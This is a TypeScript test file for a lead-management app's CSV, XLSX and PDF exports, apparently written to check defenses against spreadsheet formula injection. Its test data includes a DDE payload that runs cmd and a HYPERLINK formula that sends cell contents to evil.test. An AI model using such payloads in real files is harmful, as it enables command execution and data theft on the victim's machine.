import { randomUUID } from 'node:crypto'
import { GetObjectCommand, S3Client } from '@aws-sdk/client-s3'
import { api, type Lead, leadStatuses } from '@bong-bari/contract'
import { leadOf } from '@bong-bari/contract/testing'
import { exportHasEnded } from '@bong-bari/edge'
import { createLead, removeLead } from '@bong-bari/table'
import { PDFiumLibrary } from '@hyzyla/pdfium'
import { parse } from 'csv-parse/sync'
import { PDFDocument } from 'pdf-lib'
import readExcel from 'read-excel-file/node'
import { expect, test } from 'vitest'
import { startApi } from '../../testing/start-api.ts'

const { leads: route } = api.exports
const at = (minutes: number) => new Date(Date.UTC(2026, 10, 20, 18, 30 + minutes)).toISOString()

const leadAt = (minutes: number, changes: Partial<Lead> = {}) =>
  leadOf({
    id: randomUUID(),
    name: 'রিয়া সেন',
    email: 'riya@example.com',
    phone: '+91 9830012345',
    company: 'উজ্জ্বল ঘর',
    createdAt: at(minutes),
    ...changes,
  })

/** What OWASP lists, and what known exports were caught by. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test?x="&A1,"click")',
  '＝1+1',
  '＋1',
  '+91 98300=1+1',
]

const texts = [
  'ক্ষ জ্ঞ শ্রী স্ত্রী উজ্জ্বল কর্তৃপক্ষ র‍্যাব ব্র্যান্ড দৃষ্টি ত্র্যহস্পর্শ',
  'a "quoted", with; commas',
  'lines\nand\r\nmore\rlines',
  'literal _x0041_ and \u0001 control',
  '👨‍👩‍👧 عربي  two  spaces ',
  '0012345',
  "'apostrophe",
]

const stored: Lead[] = [
  ...[...formulas, ...texts].map((message, index) =>
    leadAt(index, {
      message,
      followUpNotes: message,
      leadStatus: leadStatuses[index % 5] ?? 'new',
      ...(index % 2 && { opened: true, openedAt: at(index + 60) }),
    }),
  ),
  leadAt(100, { email: null, name: '=1+1', company: '@home' }),
  leadAt(101, { phone: null }),
]
const newestFirst = [...stored].reverse()

const site = await startApi()
for (const lead of stored) await createLead({ ...lead, spam: false })
await createLead({ ...leadAt(200, { name: 'spam' }), spam: true })
let admin = await site.newAdmin()
await site.react()

const indiaTime = (text: string | null) =>
  text === null
    ? null
    : new Date(Date.parse(text) + 19_800_000).toISOString().slice(0, 16).replace('T', ' ')

/** A sheet counts in fractions of a day, which come back as a hair less. */
const minuteOf = (cell: unknown) =>
  cell instanceof Date
    ? new Date(cell.getTime() + 1).toISOString().slice(0, 16).replace('T', ' ')
    : null

/** Rows of a CSV, each by the titles of its columns. */
const rowsOf = (csv: string | Buffer): Record<string, string>[] =>
  parse(csv, { bom: true, columns: true })

const idsIn = async (query: object) => {
  const { blob } = await admin.call(route, { query: { format: 'csv', ...query } })
  return rowsOf(await blob.text()).map(({ ID }) => ID)
}

test('LEAD-09 API-08 the CSV has a BOM, the twelve columns in their order but for the ID, which is last, and every lead, newest first', async () => {
  const { blob } = await admin.call(route, { query: { format: 'csv' } })
  const bytes = Buffer.from(await blob.arrayBuffer())
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  const [header] = parse(bytes, { bom: true, to: 1 }) as string[][]
  const twelve = [
    'Name',
    'Email',
    'Phone',
    'Company',
    'Message',
    'Status',
    'Lead Status',
    'Opened',
    'Created Date (IST)',
    'Opened Date (IST)',
    'Follow-up Notes',
    'ID',
  ]
  expect(header).toHaveLength(24)
  expect(header?.filter((title) => twelve.includes(title))).toEqual(twelve)
  // The one change: apostrophes before what could start a formula.
  const same = (written: string | undefined, kept: string | null) =>
    expect(written?.replaceAll("'", '')).toBe((kept ?? '').replaceAll("'", ''))
  const rows = rowsOf(bytes)
  expect(rows).toHaveLength(newestFirst.length)
  for (const [index, lead] of newestFirst.entries()) {
    const row = rows[index] ?? {}
    expect(row).toMatchObject({
      ID: lead.id,
      Email: lead.email ?? '',
      Phone: lead.phone ?? '',
      Status: 'submitted',
      'Lead Status': lead.leadStatus,
      Opened: lead.opened ? 'Yes' : 'No',
      'Created Date (IST)': indiaTime(lead.createdAt),
      'Opened Date (IST)': indiaTime(lead.openedAt) ?? '',
    })
    same(row.Name, lead.name)
    same(row.Company, lead.company)
    same(row.Message, lead.message)
    same(row['Follow-up Notes'], lead.followUpNotes)
  }
})

test('no cell of the CSV begins like a formula but a phone, and harmless texts are untouched', async () => {
  const { blob } = await admin.call(route, { query: { format: 'csv' } })
  const rows = rowsOf(await blob.text())
  for (const row of rows)
    for (const [title, cell] of Object.entries(row))
      if (title !== 'Phone') expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/)
  const messages = rows.map(({ Message }) => Message)
  expect(messages).toEqual(expect.arrayContaining(texts))
  const inside = (formula: string) => formula.replace(/^[\t\r\n]/, "$&'")
  expect(messages).toEqual(expect.arrayContaining(formulas.map((one) => `'${inside(one)}`)))
})

/** A sheet has one way to end a line. */
const withPlainLines = (text: string | null) => text?.replace(/\r\n?/g, '\n') ?? null

test('the workbook reads back as it was stored: texts inert and whole, dates as dates', async () => {
  const { blob } = await admin.call(route, { query: { format: 'xlsx' } })
  const [sheet] = await readExcel(Buffer.from(await blob.arrayBuffer()), { trim: false })
  const [titles = [], ...cells] = sheet?.data ?? []
  const rows = cells.map((row) =>
    Object.fromEntries(titles.map((title, column) => [title, row[column]])),
  )
  expect(rows).toHaveLength(newestFirst.length)
  for (const [index, lead] of newestFirst.entries()) {
    const row = rows[index] ?? {}
    expect(row).toMatchObject({
      ID: lead.id,
      Name: lead.name,
      Email: lead.email,
      Phone: lead.phone,
      Company: lead.company,
      Message: withPlainLines(lead.message),
      Status: 'submitted',
      'Lead Status': lead.leadStatus,
      Opened: lead.opened ? 'Yes' : 'No',
      'Follow-up Notes': withPlainLines(lead.followUpNotes),
    })
    expect(minuteOf(row['Created Date (IST)'])).toBe(indiaTime(lead.createdAt))
    expect(minuteOf(row['Opened Date (IST)'])).toBe(indiaTime(lead.openedAt))
  }
})

test('a file says where each request stands', async () => {
  const lastReply = { id: randomUUID(), channel: 'whatsapp', at: at(5), by: 'mitali' } as const
  const lead = leadAt(500, {
    lastReply,
    repliedAt: lastReply.at,
    followUpOn: '2026-12-24',
    ownerName: 'ratul',
    source: 'chat',
  })
  await createLead({ ...lead, spam: false })
  const { blob } = await admin.call(route, { query: { format: 'csv', ids: [lead.id] } })
  const [whole = {}] = rowsOf(await blob.text())
  expect(whole).toMatchObject({
    Queue: 'Waiting',
    Owner: 'ratul',
    Due: '2026-12-24',
    'Follow-up Day': '2026-12-24',
    'Answered How': 'WhatsApp',
    'Answered By': 'mitali',
    'Answered Date (IST)': indiaTime(lastReply.at),
    Source: 'Chat with Bong Bot',
  })
  expect(Object.keys(whole).at(-1)).toBe('ID')
  await removeLead(lead.id)
})

test('the filters and repeated ids choose, together too, and spam is in no export', async () => {
  expect(await idsIn({})).toEqual(newestFirst.map(({ id }) => id))
  const some = newestFirst.slice(3, 8)
  const ids = [...some.map(({ id }) => id), randomUUID(), some[0]?.id ?? '']
  expect(await idsIn({ ids })).toEqual(some.map(({ id }) => id))
  const opened = some.filter((lead) => lead.opened).map(({ id }) => id)
  expect(await idsIn({ ids, opened: 'true' })).toEqual(opened)
  expect(await idsIn({ ids: ids.map((id) => id.replaceAll('-', '')) })).toEqual(
    some.map(({ id }) => id),
  )
  expect(await idsIn({ ids: [randomUUID()] })).toEqual([])
})

test('an export follows the search of the list', async () => {
  const idsListed = async (query: object) => {
    const { items } = await admin.call(api.leads.list, { query: { ...query, limit: 200 } })
    return items.map(({ id }) => id)
  }
  const ids = newestFirst.slice(0, 4).map(({ id }) => id)
  expect(await idsIn({ q: '@home' })).toEqual([
    stored.find(({ company }) => company === '@home')?.id,
  ])
  expect(await idsIn({ ids, q: '@HOME' })).toHaveLength(1)
  for (const query of [{ q: 'উজ্জ্বল' }, { q: '98300-12345', leadStatus: 'hot', opened: 'true' }]) {
    const listed = await idsListed(query)
    expect(listed.length).toBeGreaterThan(0)
    expect(await idsIn(query)).toEqual(listed)
  }
  expect(await idsIn({ q: 'nobody at all' })).toEqual([])
})

test('a PDF has in its title whose requests it has', async () => {
  for (const [owner, words] of [
    ['me', admin.username],
    ['none', 'nobody'],
  ] as const) {
    const { blob } = await admin.call(route, { query: { format: 'pdf', owner } })
    const file = await PDFDocument.load(await blob.arrayBuffer(), { updateMetadata: false })
    expect(file.getTitle()).toMatch(new RegExp(`: With ${words}$`))
  }
})

test.each([
  ['csv', 'text/csv; charset=utf-8'],
  ['xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
  ['pdf', 'application/pdf'],
] as const)(
  'API-32 a %s is an attachment named by the day in Kolkata and kept by no cache',
  async (format, type) => {
    // 18:31 UTC is past midnight in Kolkata.
    site.clock.now = Date.UTC(2026, 11, 31, 18, 31)
    const { session } = await site.newAdmin()
    const headers = { authorization: `Bearer ${session.sessionId}` }
    const response = await site.fetcher()(`${route.path}?format=${format}`, { headers })
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe(type)
    expect(response.headers.get('cache-control')).toBe('no-store')
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="leads-export-2027-01-01.${format}"`,
    )
  },
)

test('what one answer cannot carry waits in the bucket under a key of 256 bits, with its name', async () => {
  const long = { message: 'দীর্ঘ চিঠি '.repeat(454), followUpNotes: 'দীর্ঘ চিঠি '.repeat(900) }
  for (let i = 0; i < 130; i++) await createLead({ ...leadAt(300 + i, long), spam: false })
  const { session } = await site.newAdmin()
  const headers = { authorization: `Bearer ${session.sessionId}` }
  const response = await site.fetcher()(`${route.path}?format=csv`, { headers })
  expect(response.status).toBe(303)
  expect(response.headers.get('cache-control')).toBe('no-store')
  const location = response.headers.get('location') ?? ''
  expect(location).toMatch(/^\/exports\/[\w-]{43}-[0-9a-z]+$/)

  expect(exportHasEnded(location, site.clock.now)).toBe(false)
  expect(exportHasEnded(location, site.clock.now + 3_600_000)).toBe(true)

  const { endpoint, bucket } = site.bucket
  const client = new S3Client({ endpoint, forcePathStyle: true })
  const object = await client.send(new GetObjectCommand({ Bucket: bucket, Key: location.slice(1) }))
  expect(object.ContentType).toBe('text/csv; charset=utf-8')
  expect(object.ContentDisposition).toMatch(/^attachment; filename="leads-export-[\d-]+\.csv"$/)
  const bytes = Buffer.from((await object.Body?.transformToByteArray()) ?? [])
  expect(bytes.length).toBeGreaterThan(4_400_000)
  expect(parse(bytes, { bom: true })).toHaveLength(1 + newestFirst.length + 130)
})

test('a PDF has the header of its columns, without the empty ones, on every page and breaks rows that are longer than a page', async () => {
  const letter = `শুরু ${'দীর্ঘ চিঠি '.repeat(1_400)}শেষ`
  const lead = leadAt(900, { message: letter, followUpNotes: 'নোট' })
  await createLead({ ...lead, spam: false })
  admin = await site.newAdmin()
  const ids = [lead.id, stored[0]?.id ?? '', stored[1]?.id ?? '']
  const { blob } = await admin.call(route, { query: { format: 'pdf', ids } })
  const pdfium = await PDFiumLibrary.init()
  const document = await pdfium.loadDocument(Buffer.from(await blob.arrayBuffer()))
  const pages = [...document.pages()].map((page) => page.getText().replace(/\s+/g, ' '))
  document.destroy()
  pdfium.destroy()
  expect(pages.length).toBeGreaterThan(1)
  for (const [index, text] of pages.entries()) {
    expect(text).toContain(
      'Name Email Phone Company Message Queue Due Lead Status Created Date (IST) Follow-up Notes',
    )
    expect(text).toContain(`Page ${index + 1} of ${pages.length}`)
  }
  expect(pages[0]).toMatch(/Collaboration requests.*Generated .*\(Asia\/Kolkata\).*Total 3/)
  const whole = pages.join(' ')
  expect(whole.match(/চিঠি/g)).toHaveLength(1_400)
  expect(whole).toMatch(/শুরু.*শেষ/)
  // Both short rows follow the long one.
  expect(whole.match(/রিয়া সেন/g)).toHaveLength(3)
})
